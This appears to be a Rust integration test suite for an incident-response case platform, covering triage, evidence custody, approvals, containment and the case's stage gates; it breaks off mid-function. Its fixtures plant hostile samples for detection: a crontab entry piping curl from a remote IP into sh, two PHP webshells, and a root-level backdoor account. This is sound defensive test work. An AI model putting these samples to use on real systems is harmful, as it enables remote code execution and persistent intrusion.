//! The case platform as a newcomer meets it: `firewarden server` started with one command,
//! a case opened, the real outputs of `triage`, `collect`, `contain`, `eradicate` and
//! `actions --export` pushed, and the case walked through its six gates. On SQLite and
//! PostgreSQL.

mod support;

use std::path::Path;
use std::process::{Command, Stdio};
use support::*;

/// The responder's work on site, offline: triage, evidence, containment, eradication,
/// re-triage and the signed journal, all real outputs of the binary.
struct OnSite {
    _dir: tempfile::TempDir,
    triage: String,
    scan: String,
    hunt: String,
    bundle: String,
    journal: String,
    key: String,
    retriage: String,
}

fn on_site() -> OnSite {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("root");
    write(&root, "/etc/hostname", "web01\n");
    write(
        &root,
        "/etc/passwd",
        "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n",
    );
    write(
        &root,
        "/etc/crontab",
        "SHELL=/bin/sh\n*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n",
    );
    write(
        &root,
        "/var/www/html/up.php",
        "<?php @eval($_POST[\"c\"]); ?>\n",
    );
    let r = root.to_str().unwrap();
    let w = |n: &str| dir.path().join(n).to_str().unwrap().to_owned();
    let sd = w("state");
    let run = |args: &[&str], codes: &[i32]| {
        let o = fw(args);
        assert!(
            codes.contains(&o.status.code().unwrap_or(-1)),
            "{args:?}: {}",
            text(&o)
        );
    };
    run(
        &[
            "triage",
            "--root",
            r,
            "--format",
            "json",
            "-o",
            &w("triage.json"),
        ],
        &[1],
    );
    let www = root.join("var/www");
    run(
        &[
            "scan",
            www.to_str().unwrap(),
            "--format",
            "json",
            "-o",
            &w("scan.json"),
        ],
        &[1],
    );
    // A Windows host of the same intrusion: its security log was cleared.
    std::fs::write(
        w("events.jsonl"),
        r##"{"Event":{"System":{"EventID":1102,"TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T03:30:00Z"}},"EventRecordID":8,"Channel":"Security","Computer":"WEB01"},"UserData":{"LogFileCleared":{"SubjectUserName":"admin"}}}}"##,
    )
    .unwrap();
    run(
        &[
            "hunt",
            &w("events.jsonl"),
            "--format",
            "json",
            "-o",
            &w("hunt.json"),
        ],
        &[1],
    );
    run(&["keygen", "-o", &w("resp")], &[0]);
    run(
        &[
            "collect",
            "--root",
            r,
            "--key",
            &w("resp.key"),
            "-o",
            &w("web01.fwb"),
        ],
        &[0, 1],
    );
    // The journal's times have whole seconds: the containment must come after the evidence.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    run(
        &[
            "contain",
            "file",
            "/var/www/html/up.php",
            "--root",
            r,
            "--state-dir",
            &sd,
            "--yes",
        ],
        &[0],
    );
    run(
        &[
            "eradicate",
            "--from",
            &w("triage.json"),
            "--all",
            "--root",
            r,
            "--state-dir",
            &sd,
            "--yes",
        ],
        &[0],
    );
    // Likewise the re-triage must finish after the last eradication, a second later.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    run(
        &[
            "triage",
            "--root",
            r,
            "--format",
            "json",
            "-o",
            &w("retriage.json"),
        ],
        &[0],
    );
    run(
        &[
            "actions",
            "--state-dir",
            &sd,
            "--export",
            &w("case.journal"),
            "--key",
            &w("resp.key"),
        ],
        &[0],
    );
    OnSite {
        triage: w("triage.json"),
        scan: w("scan.json"),
        hunt: w("hunt.json"),
        bundle: w("web01.fwb"),
        journal: w("case.journal"),
        key: w("resp.pub"),
        retriage: w("retriage.json"),
        _dir: dir,
    }
}

#[test]
fn a_case_walks_through_its_six_gates_with_real_results() {
    let site = on_site();
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let dbs = rt.block_on(firewarden_store::testdb::backends("cli_walk"));
    for db in &dbs {
        let data = tempfile::tempdir().unwrap();
        // SQLite: the default, everything under --data. PostgreSQL: by URL.
        let database = (db.backend == "postgres").then_some(db.url.as_str());
        // Evidence: under --data with SQLite, in the S3-compatible store scripts/test.sh
        // starts with PostgreSQL (the team setup).
        let evidence_store = match (db.backend, std::env::var("FIREWARDEN_TEST_S3_BUCKET")) {
            ("postgres", Ok(bucket)) => {
                Some(format!("s3://{bucket}/cli-walk-{}", std::process::id()))
            }
            ("postgres", Err(_)) if std::env::var_os("CI").is_some() => {
                panic!(
                    "FIREWARDEN_TEST_S3_BUCKET is not set: scripts/test.sh starts an S3-compatible server"
                )
            }
            ("postgres", Err(_)) => {
                eprintln!("SKIPPED (S3 evidence store): FIREWARDEN_TEST_S3_BUCKET is not set");
                None
            }
            _ => None,
        };
        let server = start(&data.path().join("fw"), database, evidence_store.as_deref());
        let admin = server.token.clone();
        let tenant = server.json(&admin, &["tenant", "add", "Acme Corp"]);
        let t = tenant["id"].as_str().unwrap();
        let set = server.json(
            &admin,
            &[
                "tenant",
                "set",
                t,
                "--contacts",
                "J. Doe, on call",
                "--contract",
                "RET-2026-17",
                "--sla",
                "standard",
            ],
        );
        assert_eq!(set["sla"]["on_site"], 120);
        assert_eq!(
            (set["contacts"].as_str(), set["contract"].as_str()),
            (Some("J. Doe, on call"), Some("RET-2026-17"))
        );
        let made = server.json(
            &admin,
            &["user", "add", "lena", "--role", "lead", "--tenant", t],
        );
        let lead = made["token"].as_str().unwrap().to_owned();
        let viewer = server.json(
            &admin,
            &[
                "user",
                "add",
                "vic",
                "--role",
                "customer-viewer",
                "--tenant",
                t,
            ],
        );
        let viewer = viewer["token"].as_str().unwrap().to_owned();
        let case = server.json(
            &lead,
            &[
                "case",
                "new",
                "--tenant",
                t,
                "--title",
                "web01 webshell",
                "--kind",
                "webshell",
                "--severity",
                "high",
            ],
        );
        let id = case["id"].as_str().unwrap().to_owned();
        assert_eq!(case["stage"], "preparation");
        // The SLA clocks run from here; the lead acknowledges and is on site.
        let sla = server.ok(&viewer, &["case", "sla", &id]);
        assert!(sla.contains("on site") && sla.contains("running"), "{sla}");
        let ack = server.ok(&lead, &["case", "ack", &id]);
        assert!(ack.contains("lena acknowledged the case"), "{ack}");
        let here = server.ok(
            &lead,
            &[
                "case",
                "checkin",
                &id,
                "--on-site",
                "--place",
                "Acme HQ, rack 4",
            ],
        );
        assert!(here.contains("(Acme HQ, rack 4)"), "{here}");

        // The customer's viewer reads but cannot push or move the case.
        let o = server.as_user(&viewer, &["case", "push", "--case", &id, &site.triage]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("403"), "{}", text(&o));

        // Preparation: the gate says what is missing, exit 1.
        let o = server.as_user(&lead, &["case", "stage", &id, "--advance"]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(
            text(&o).contains("[ ] preparation.authority"),
            "{}",
            text(&o)
        );

        let pushed = server.ok(&lead, &["case", "push", "--case", &id, &site.triage]);
        let more = server.ok(
            &lead,
            &[
                "case", "push", "--case", &id, "--asset", "web01", &site.scan,
            ],
        );
        assert!(more.contains("scan for web01"), "{more}");
        let more = server.ok(
            &lead,
            &[
                "case", "push", "--case", &id, "--asset", "win01", &site.hunt,
            ],
        );
        assert!(more.contains("hunt for win01"), "{more}");
        assert!(pushed.contains("triage for web01"), "{pushed}");
        server.ok(
            &lead,
            &[
                "case",
                "set",
                &id,
                "--authority",
                "Engagement letter signed by the CISO, scope web01",
            ],
        );
        server.ok(&lead, &["case", "stage", &id, "--advance"]);
        // Detection: the analysis is in and names an entry point (or one is recorded).
        let stage = server.json(&lead, &["case", "stage", &id]);
        assert_eq!(stage["case"]["stage"], "detection", "{stage}");
        if stage["facts"]["entry_point"].is_null() {
            server.ok(
                &lead,
                &[
                    "case",
                    "set",
                    &id,
                    "--entry-point",
                    "webshell upload through the CMS",
                ],
            );
        }
        server.ok(&lead, &["case", "stage", &id, "--advance"]);

        // Containment: without the evidence the gate holds; the bundle is verified on push
        // (a tampered copy is refused), then the journal is pushed.
        // A journal pushed without its signer's key is kept, but its actions do not count.
        let o = server.as_user(&lead, &["case", "push", "--case", &id, &site.journal]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(text(&o).contains("without --key"), "{}", text(&o));
        let o = server.as_user(&lead, &["case", "stage", &id]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(
            text(&o).contains("[ ] containment.journal")
                && text(&o).contains("without a verified signature"),
            "{}",
            text(&o)
        );
        // Signed by another key: refused, nothing kept.
        let work = tempfile::tempdir().unwrap();
        let other = work.path().join("other");
        assert_eq!(
            fw(&["keygen", "-o", other.to_str().unwrap()]).status.code(),
            Some(0)
        );
        let other_pub = format!("{}.pub", other.display());
        let o = server.as_user(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--key",
                &other_pub,
                &site.journal,
            ],
        );
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("does not verify"), "{}", text(&o));
        let pushed = server.ok(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--key",
                &site.key,
                &site.journal,
            ],
        );
        assert!(pushed.contains("action(s)"), "{pushed}");
        let o = server.as_user(&lead, &["case", "stage", &id]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        assert!(
            text(&o).contains("[ ] containment.evidence_first")
                && text(&o).contains("[x] containment.journal"),
            "{}",
            text(&o)
        );
        let tampered = work.path().join("web01.fwb");
        let mut bytes = std::fs::read(&site.bundle).unwrap();
        let last = bytes.len() - 40;
        bytes[last] ^= 0x55;
        std::fs::write(&tampered, bytes).unwrap();
        std::fs::copy(
            format!("{}.custody", site.bundle),
            work.path().join("web01.fwb.custody"),
        )
        .unwrap();
        let o = server.as_user(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--asset",
                "web01",
                tampered.to_str().unwrap(),
            ],
        );
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));
        assert!(text(&o).contains("422"), "{}", text(&o));
        let no_ledger = work.path().join("alone.fwb");
        std::fs::copy(&site.bundle, &no_ledger).unwrap();
        let o = server.as_user(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--asset",
                "web01",
                no_ledger.to_str().unwrap(),
            ],
        );
        assert!(text(&o).contains("custody"), "{}", text(&o));
        let pushed = server.ok(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--asset",
                "web01",
                &site.bundle,
            ],
        );
        assert!(pushed.contains("evidence E"), "{pushed}");
        let evidence = pushed
            .split("evidence ")
            .nth(1)
            .and_then(|r| r.split(|c: char| !c.is_ascii_alphanumeric()).next())
            .unwrap()
            .to_owned();
        // Kept write-once under the tenant and its digest, encrypted with the tenant's key,
        // where the server was told to keep evidence.
        let sha = firewarden_evidence::verify_bundle(Path::new(&site.bundle), &[], None, None)
            .unwrap()
            .1
            .sha256;
        let key = format!("{t}/{sha}.fwb.age");
        match &evidence_store {
            Some(url) => {
                let s3 = firewarden_server::s3::S3::from_url(url).unwrap();
                assert!(rt.block_on(s3.exists(&key)).unwrap(), "not in {url}");
            }
            None => {
                let kept = data.path().join("fw/evidence").join(&key);
                let at_rest = std::fs::read(&kept).unwrap();
                assert!(at_rest.starts_with(b"age-encryption.org/v1"));
                assert_ne!(at_rest, std::fs::read(&site.bundle).unwrap());
                use std::os::unix::fs::PermissionsExt;
                assert_eq!(
                    std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777,
                    0o400
                );
            }
        }
        // The same bundle again: the same item, received twice, stored once.
        let again = server.ok(
            &lead,
            &[
                "case",
                "push",
                "--case",
                &id,
                "--asset",
                "web01",
                &site.bundle,
            ],
        );
        assert!(again.contains(&format!("evidence {evidence}")), "{again}");
        // Custody across people: the lead checks it out and in under her own key, takes a
        // copy (the bytes pushed), and exports the ledger; another examiner verifies it
        // with the public keys alone, and each kind of tampering is named.
        let work = tempfile::tempdir().unwrap();
        let w = |p: &str| work.path().join(p).to_str().unwrap().to_owned();
        assert_eq!(fw(&["keygen", "-o", &w("lena")]).status.code(), Some(0));
        for (event, reason) in [("check-out", "timeline analysis"), ("check-in", "done")] {
            let said = server.ok(
                &lead,
                &[
                    "custody",
                    "record",
                    &evidence,
                    "--event",
                    event,
                    "--reason",
                    reason,
                    "--authority",
                    "RET-2026-17",
                    "--key",
                    &w("lena.key"),
                ],
            );
            assert!(said.contains("matches acquisition"), "{said}");
        }
        let pulled = server.ok(&lead, &["custody", "pull", &evidence, "-o", &w("copy.fwb")]);
        assert!(pulled.contains("matches"), "{pulled}");
        assert_eq!(
            std::fs::read(w("copy.fwb")).unwrap(),
            std::fs::read(&site.bundle).unwrap()
        );
        let exported = server.ok(
            &lead,
            &["custody", "export", &evidence, "-o", &w("web01.custody")],
        );
        assert!(exported.contains("6 custody events"), "{exported}");
        let server_key = rt
            .block_on(
                firewarden_client::Client::new(&server.url, None, Some(server.pin.clone()))
                    .unwrap()
                    .get("/api/v1/server-key"),
            )
            .unwrap()["public_key"]
            .as_str()
            .unwrap()
            .to_owned();
        let verify = |ledger: &str, keys: &[&str]| {
            let mut args = vec!["custody", "verify", ledger, "--bundle", &site.bundle];
            for k in keys {
                args.extend(["--key", k]);
            }
            fw(&args)
        };
        let collector = site.key.clone();
        let o = verify(&w("web01.custody"), &[&server_key, &collector]);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(text(&o).contains("intact: 6 events"), "{}", text(&o));
        let ledger = std::fs::read_to_string(w("web01.custody")).unwrap();
        let lines: Vec<&str> = ledger.lines().collect();
        let named = |lines: Vec<&str>, keys: &[&str], want: &str| {
            std::fs::write(w("changed.custody"), lines.join("\n")).unwrap();
            let o = verify(&w("changed.custody"), keys);
            assert_eq!(o.status.code(), Some(1), "{}", text(&o));
            assert!(text(&o).contains(want), "wanted {want}: {}", text(&o));
        };
        let edited = lines[3].replace("timeline analysis", "timeline analysiz");
        let mut changed = lines.clone();
        changed[3] = &edited;
        named(
            changed,
            &[&server_key, &collector],
            "custody event 4 (check-out): signature does not verify",
        );
        let mut reordered = lines.clone();
        reordered.swap(3, 4);
        named(
            reordered,
            &[&server_key, &collector],
            "does not chain to the previous event",
        );
        named(lines.clone(), &[&collector], "not among the keys given");
        // A copy that is not the evidence: the bundle's hash no longer matches acquisition.
        let mut tampered = std::fs::read(&site.bundle).unwrap();
        let mid = tampered.len() / 2;
        tampered[mid] ^= 1;
        std::fs::write(w("tampered.fwb"), tampered).unwrap();
        let o = fw(&[
            "custody",
            "verify",
            &w("web01.custody"),
            "--key",
            &server_key,
            "--key",
            &collector,
            "--bundle",
            &w("tampered.fwb"),
        ]);
        assert_eq!(o.status.code(), Some(1));
        assert!(text(&o).contains("differs from"), "{}", text(&o));
        let shown = server.json(&lead, &["case", "show", &id]);
        assert_eq!(shown["id"], id.as_str());
        server.ok(&lead, &["case", "stage", &id, "--advance"]);
        // Every clock stopped: acknowledged, analysed (the triage), on site, contained (the
        // signed journal's first containment action).
        let sla = server.json(&viewer, &["case", "sla", &id]);
        let states: Vec<&str> = sla["clocks"]
            .as_array()
            .unwrap()
            .iter()
            .map(|c| c["state"].as_str().unwrap())
            .collect();
        assert_eq!(states, ["met", "met", "met", "met"], "{sla}");

        // Eradication: the re-triage after the last eradication shows nothing left.
        let o = server.as_user(&lead, &["case", "stage", &id]);
        assert_eq!(o.status.code(), Some(1), "{}", text(&o));
        server.ok(&lead, &["case", "push", "--case", &id, &site.retriage]);
        server.ok(&lead, &["case", "stage", &id, "--advance"]);
        // Recovery: the clean re-triage is the verification. Summary: no open task.
        server.ok(&lead, &["case", "stage", &id, "--advance"]);
        let closed = server.ok(&lead, &["case", "stage", &id, "--advance"]);
        assert!(closed.contains("closed"), "{closed}");
        let o = server.as_user(&lead, &["case", "stage", &id, "--advance"]);
        assert_eq!(o.status.code(), Some(2), "{}", text(&o));

        if let Some(db) = database {
            // A second server process on the same PostgreSQL serves the same case.
            let other = start(
                &data.path().join("fw2"),
                Some(db),
                evidence_store.as_deref(),
            );
            let seen = other.json(&lead, &["case", "show", &id]);
            assert_eq!(seen["status"], "closed", "{seen}");
        }
        let shown = server.json(&viewer, &["case", "list"]);
        assert_eq!(shown[0]["status"], "closed", "{shown}");
        assert_eq!(shown[0]["stage"], "summary");
        // The customer's viewer sees the case; the list as a table is readable.
        let table = server.ok(&viewer, &["case", "list"]);
        assert!(
            table.contains("web01 webshell") && table.starts_with("ID"),
            "{table}"
        );

        // The summary report, from the case's data alone: signed, kept, the same bytes for
        // the same case, checked offline; a changed byte fails.
        report_checks(&server, &lead, &viewer, &id, &server_key, work.path());

        // The audit chain, checked offline by the server command.
        drop(server);
        let mut args = vec!["server", "audit", "--verify", "--data"];
        let d = data.path().join("fw");
        args.push(d.to_str().unwrap());
        if let Some(db) = database {
            args.extend(["--database", db]);
        }
        let o = fw(&args);
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        assert!(text(&o).contains("chain intact"), "{}", text(&o));
    }
}

#[test]
fn the_server_refuses_plain_http_off_loopback_and_clients_need_settings() {
    let data = tempfile::tempdir().unwrap();
    let o = fw(&[
        "server",
        "--data",
        data.path().to_str().unwrap(),
        "--listen",
        "0.0.0.0:0",
        "--insecure-http",
    ]);
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("loopback"), "{}", text(&o));
    let o = fw(&["case", "list"]);
    assert_eq!(o.status.code(), Some(2));
    assert!(text(&o).contains("FIREWARDEN_SERVER"), "{}", text(&o));
}

/// The approval loop across a real server and a host command: the responder's `contain file
/// --case` waits while the customer's authoriser, in their own session, sees the request and
/// approves it with their password; the host checks the signed approval, applies, and the
/// journal keeps it. A denied request changes nothing.
#[test]
fn a_host_action_waits_for_the_customers_approval() {
    let data = tempfile::tempdir().unwrap();
    let server = start(&data.path().join("fw"), None, None);
    let (t, rob, carol, case) = acme_with_rob_and_carol(&server, "web01");
    let admin = server.token.clone();
    let set = server.json(
        &admin,
        &["tenant", "set", &t, "--approval-policy", "medium=customer"],
    );
    assert_eq!(set["approval_policy"]["medium"], "customer", "{set}");
    let root = support::planted_web_host("web01");
    write(
        root.path(),
        "/var/www/html/old.php",
        "<?php system($_GET['c']); ?>\n",
    );
    let state = tempfile::tempdir().unwrap();
    let (r, sd) = (
        root.path().to_str().unwrap(),
        state.path().to_str().unwrap(),
    );
    let contain = |file: &str| {
        Command::new(env!("CARGO_BIN_EXE_firewarden"))
            .args([
                "contain",
                "file",
                file,
                "--root",
                r,
                "--state-dir",
                sd,
                "--case",
                &case,
            ])
            .env("NO_COLOR", "1")
            .env("FIREWARDEN_SERVER", &server.url)
            .env("FIREWARDEN_TOKEN", &rob)
            .env("FIREWARDEN_PIN", &server.pin)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap()
    };
    // The first pending request of the case, as the authoriser's session lists it.
    let pending = || {
        for _ in 0..120 {
            let list = server.json(&carol, &["case", "approvals", &case]);
            if let Some(p) = list
                .as_array()
                .unwrap()
                .iter()
                .find(|a| a["state"] == "pending")
            {
                return p.clone();
            }
            std::thread::sleep(std::time::Duration::from_millis(250));
        }
        panic!("no request arrived");
    };

    let waiting = contain("/var/www/html/up.php");
    let request = pending();
    assert_eq!(
        (
            request["host"].as_str(),
            request["risk"].as_str(),
            request["requirement"].as_str()
        ),
        (Some("web01"), Some("medium"), Some("customer"))
    );
    assert!(
        root.path().join("var/www/html/up.php").exists(),
        "applied before approval"
    );
    let id = request["id"].as_str().unwrap();
    let wrong = server.with_stdin(
        &carol,
        &["case", "decide", &case, id, "--approve"],
        "guess\n",
    );
    assert_eq!(wrong.status.code(), Some(2), "{}", text(&wrong));
    let right = server.with_stdin(
        &carol,
        &["case", "decide", &case, id, "--approve"],
        "carol's long passphrase\n",
    );
    assert_eq!(right.status.code(), Some(0), "{}", text(&right));
    let done = waiting.wait_with_output().unwrap();
    assert_eq!(done.status.code(), Some(0), "{}", text(&done));
    assert!(text(&done).contains("approved by carol"), "{}", text(&done));
    assert!(!root.path().join("var/www/html/up.php").exists());
    // The journal keeps the signed approval with the action.
    let journal = std::fs::read_to_string(state.path().join("journal.jsonl")).unwrap();
    assert!(journal.contains("\"approval\"") && journal.contains("\"signature\""));
    assert!(journal.contains(id));

    // Denied: nothing changes, and the command says why.
    let waiting = contain("/var/www/html/old.php");
    let request = pending();
    let id = request["id"].as_str().unwrap();
    let denied = server.with_stdin(
        &carol,
        &[
            "case",
            "decide",
            &case,
            id,
            "--deny",
            "--reason",
            "the shop runs on it",
        ],
        "carol's long passphrase\n",
    );
    assert_eq!(denied.status.code(), Some(0), "{}", text(&denied));
    let done = waiting.wait_with_output().unwrap();
    assert_ne!(done.status.code(), Some(0), "{}", text(&done));
    assert!(
        text(&done).contains("the shop runs on it"),
        "{}",
        text(&done)
    );
    assert!(root.path().join("var/www/html/old.php").exists());

    // Break-glass: done at once, flagged until the customer ratifies it.
    let now = Command::new(env!("CARGO_BIN_EXE_firewarden"))
        .args([
            "contain",
            "file",
            "/var/www/html/old.php",
            "--root",
            r,
            "--state-dir",
            sd,
            "--case",
            &case,
            "--break-glass",
            "--reason",
            "the attacker is using it right now",
        ])
        .env("NO_COLOR", "1")
        .env("FIREWARDEN_SERVER", &server.url)
        .env("FIREWARDEN_TOKEN", &rob)
        .env("FIREWARDEN_PIN", &server.pin)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert_eq!(now.status.code(), Some(0), "{}", text(&now));
    assert!(
        text(&now).contains("break-glass by rob, not yet ratified"),
        "{}",
        text(&now)
    );
    assert!(!root.path().join("var/www/html/old.php").exists());
    let list = server.ok(&carol, &["case", "approvals", &case]);
    assert!(list.contains("unratified"), "{list}");
}

/// A scope granted ahead: the customer's authoriser pre-authorises file quarantine on web
/// hosts; the responder saves the grants and acts later with no network at all; a host outside
/// the scope and an edited grant are refused.
#[test]
fn a_pre_authorisation_lets_a_host_act_offline_within_its_scope() {
    let data = tempfile::tempdir().unwrap();
    let server = start(&data.path().join("fw"), None, None);
    let (_, rob, carol, case) = acme_with_rob_and_carol(&server, "web fleet");
    let granted = server.with_stdin(
        &carol,
        &[
            "case",
            "preauthorise",
            &case,
            "--hosts",
            "web*",
            "--never",
            "web-db*",
            "--kinds",
            "contain.file",
            "--max-risk",
            "medium",
            "--hours",
            "24",
        ],
        "carol's long passphrase\n",
    );
    assert_eq!(granted.status.code(), Some(0), "{}", text(&granted));
    // A second grant, for every host, withdrawn at once: it is never handed to a host.
    let wide = server.with_stdin(
        &carol,
        &[
            "case",
            "preauthorise",
            &case,
            "--hosts",
            "*",
            "--format",
            "json",
        ],
        "carol's long passphrase\n",
    );
    let wide: serde_json::Value = serde_json::from_slice(&wide.stdout).unwrap();
    let wide = wide["statement"]["id"].as_str().unwrap().to_owned();
    let revoked = server.with_stdin(
        &carol,
        &["case", "revoke", &case, &wide, "--reason", "too wide"],
        "carol's long passphrase\n",
    );
    assert_eq!(revoked.status.code(), Some(0), "{}", text(&revoked));
    let listed = server.ok(&rob, &["case", "preauths", &case]);
    assert!(listed.contains("revoked"), "{listed}");
    let keep = tempfile::tempdir().unwrap();
    let file = keep.path().join("grants.json");
    server.ok(
        &rob,
        &["case", "preauths", &case, "--save", file.to_str().unwrap()],
    );
    let saved = std::fs::read_to_string(&file).unwrap();
    assert!(
        !saved.contains(&wide),
        "a revoked grant was saved for hosts"
    );
    drop(server); // from here on, no server at all

    let host = support::planted_web_host;
    let contain = |root: &Path, grants: &Path| {
        let state = tempfile::tempdir().unwrap();
        fw(&[
            "contain",
            "file",
            "/var/www/html/up.php",
            "--root",
            root.to_str().unwrap(),
            "--state-dir",
            state.path().to_str().unwrap(),
            "--preauth",
            grants.to_str().unwrap(),
        ])
    };
    let web = host("web07");
    let done = contain(web.path(), &file);
    assert_eq!(done.status.code(), Some(0), "{}", text(&done));
    assert!(
        text(&done).contains("pre-authorised by carol"),
        "{}",
        text(&done)
    );
    assert!(!web.path().join("var/www/html/up.php").exists());
    let db = host("web-db1");
    let refused = contain(db.path(), &file);
    assert_ne!(refused.status.code(), Some(0));
    assert!(text(&refused).contains("excluded"), "{}", text(&refused));
    assert!(db.path().join("var/www/html/up.php").exists());
    // Someone widens the scope in the file: the signature no longer holds.
    let edited = keep.path().join("edited.json");
    std::fs::write(
        &edited,
        std::fs::read_to_string(&file)
            .unwrap()
            .replace("\"web-db*\"", "\"nothing*\""),
    )
    .unwrap();
    let refused = contain(db.path(), &edited);
    assert_ne!(refused.status.code(), Some(0));
    assert!(
        text(&refused).contains("signature is not the server's"),
        "{}",
        text(&refused)
    );
    assert!(db.path().join("var/www/html/up.php").exists());
}

/// This binary validates itself on its reference data; the registry then knows its triage
/// (which names the binary's hash) as validated, while a result naming another binary is
/// flagged, and refused once the tenant accepts validated tools only.
#[test]
fn the_registry_validates_this_binary_and_flags_others() {
    let data = tempfile::tempdir().unwrap();
    let work = tempfile::tempdir().unwrap();
    let w = |p: &str| work.path().join(p).to_str().unwrap().to_owned();
    let server = start(&data.path().join("fw"), None, None);
    let admin = server.token.clone();
    let t = server.json(&admin, &["tenant", "add", "Acme"]);
    let t = t["id"].as_str().unwrap().to_owned();
    let lead = server.json(
        &admin,
        &["user", "add", "lena", "--role", "lead", "--tenant", &t],
    );
    let lead = lead["token"].as_str().unwrap().to_owned();
    let case = server.json(
        &lead,
        &[
            "case",
            "new",
            "--tenant",
            &t,
            "--title",
            "t",
            "--kind",
            "intrusion",
            "--severity",
            "high",
        ],
    );
    let id = case["id"].as_str().unwrap().to_owned();

    // The validation run: every reference check passes, signed by the lab's key.
    assert_eq!(fw(&["keygen", "-o", &w("lab")]).status.code(), Some(0));
    let o = fw(&[
        "selftest",
        "--key",
        &w("lab.key"),
        "-o",
        &w("selftest.json"),
    ]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("bundle.tampered.custody"), "{}", text(&o));
    let run: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w("selftest.json")).unwrap()).unwrap();
    assert_eq!(run["result"]["passed"], true);

    // A triage by this binary, before and after it is registered and validated.
    let root = work.path().join("root");
    write(&root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n");
    write(&root, "/etc/hostname", "web01\n");
    let o = fw(&[
        "triage",
        "--root",
        root.to_str().unwrap(),
        "--format",
        "json",
        "-o",
        &w("t1.json"),
    ]);
    assert!(o.status.code().is_some_and(|c| c < 2), "{}", text(&o));
    let triage: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w("t1.json")).unwrap()).unwrap();
    let own = triage["provenance"]["tool_sha256"]
        .as_str()
        .unwrap()
        .to_owned();
    assert_eq!(own, run["result"]["tool_sha256"].as_str().unwrap());
    let o = server.as_user(
        &lead,
        &[
            "case",
            "push",
            "--case",
            &id,
            "--asset",
            "web01",
            &w("t1.json"),
        ],
    );
    assert!(
        text(&o).contains("flagged: the binary sha256") && text(&o).contains("not registered"),
        "{}",
        text(&o)
    );

    let reg = server.json(
        &admin,
        &[
            "tool",
            "register",
            "--self",
            "--source",
            "this build",
            "--licence",
            "Apache-2.0",
        ],
    );
    assert_eq!(reg["sha256"].as_str(), Some(own.as_str()));
    let tool = reg["id"].as_str().unwrap().to_owned();
    let v = server.json(&admin, &["tool", "validate", &tool, &w("selftest.json")]);
    assert_eq!(v["validated"], true, "{v}");
    let listed = server.ok(&lead, &["tool", "list"]);
    assert!(
        listed.contains("validated") && listed.contains("firewarden"),
        "{listed}"
    );
    let o = server.as_user(
        &lead,
        &[
            "case",
            "push",
            "--case",
            &id,
            "--asset",
            "web01",
            &w("t1.json"),
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(!text(&o).contains("flagged"), "{}", text(&o));

    // A result that names another binary: flagged, then refused under a strict tenant.
    let mut other = triage.clone();
    other["provenance"]["tool_sha256"] = serde_json::json!("9".repeat(64));
    std::fs::write(w("t2.json"), other.to_string()).unwrap();
    let o = server.as_user(
        &lead,
        &[
            "case",
            "push",
            "--case",
            &id,
            "--asset",
            "web01",
            &w("t2.json"),
        ],
    );
    assert!(
        text(&o).contains("flagged") && text(&o).contains("not registered"),
        "{}",
        text(&o)
    );
    server.ok(&admin, &["tenant", "set", &t, "--tool-policy", "refuse"]);
    let o = server.as_user(
        &lead,
        &[
            "case",
            "push",
            "--case",
            &id,
            "--asset",
            "web01",
            &w("t2.json"),
        ],
    );
    assert_eq!(o.status.code(), Some(2), "{}", text(&o));
    assert!(text(&o).contains("validated tools only"), "{}", text(&o));
    // A rule directory registers by the hash scan records for it.
    write(
        work.path(),
        "rules/a.yar",
        "rule ref_a { strings: $a = \"zzqqxx\" condition: $a }\n",
    );
    let o = fw(&[
        "scan",
        "--rules",
        &w("rules"),
        "--format",
        "json",
        "-o",
        &w("scan.json"),
        root.to_str().unwrap(),
    ]);
    assert!(o.status.code().is_some_and(|c| c < 2), "{}", text(&o));
    let scan: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(w("scan.json")).unwrap()).unwrap();
    let pack = server.json(
        &admin,
        &[
            "tool",
            "register",
            "--rules",
            &w("rules"),
            "--kind",
            "yara",
            "--version",
            "1",
            "--source",
            "lab",
            "--licence",
            "MIT",
        ],
    );
    assert_eq!(
        pack["sha256"], scan["provenance"]["rule_packs"][0]["sha256"],
        "{scan}"
    );
    server.ok(
        &lead,
        &[
            "case",
            "push",
            "--case",
            &id,
            "--asset",
            "web01",
            &w("scan.json"),
        ],
    );
}

/// The walk's closed case, reported: every format and both languages, the key facts in each,
/// the same bytes twice (apart from the signature line), verified offline, a changed byte
/// refused, each version kept; the customer's viewer may read reports, not make them.
fn report_checks(
    server: &Server,
    lead: &str,
    viewer: &str,
    id: &str,
    server_key: &str,
    work: &Path,
) {
    let w = |p: &str| work.join(p).to_str().unwrap().to_owned();
    // The loss evaluation the report carries: a service on web01 (down from its containment,
    // never recovered in this walk), a range, the overall rating.
